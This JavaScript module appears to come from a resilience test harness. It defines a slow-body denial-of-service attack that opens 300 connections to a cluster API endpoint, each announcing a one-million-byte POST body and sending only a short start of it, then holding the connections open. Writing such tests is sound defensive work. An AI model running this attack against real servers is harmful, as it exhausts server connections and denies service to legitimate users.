const BODIES = 300;
const OPENING = 20;

/** A body of this length is said to come, and begins. */
const LENGTH = 1_000_000;
const BEGINNING = `{"name": "${'a'.repeat(1_000)}`;

/** @type {import('./Target.mjs').Attack} */
export const unfinishedBodies = {
  name: '300 bodies that never end',
  finding: 'open for as long as they like',
  run: target => {
    const path = `/apis/v1/namespaces/${target.victim.namespace}/clusters`;
    const open = (/** @type {() => void} */ onEnd) =>
      new Promise(resolve => {
        const headers = { 'content-length': String(LENGTH) };
        const outgoing = target.open(
          { path, method: 'POST', headers, ownConnection: true },
          response => {
            target.count(response.statusCode ?? 0);
            response.on('error', () => undefined);
            response.resume();
            outgoing.destroy();
          },
        );
        outgoing.on('error', () => undefined);
        outgoing.once('close', onEnd);
        outgoing.write(BEGINNING, error => resolve(!error));
      });
    return target.hold({ count: BODIES, opening: OPENING, open });
  },
};
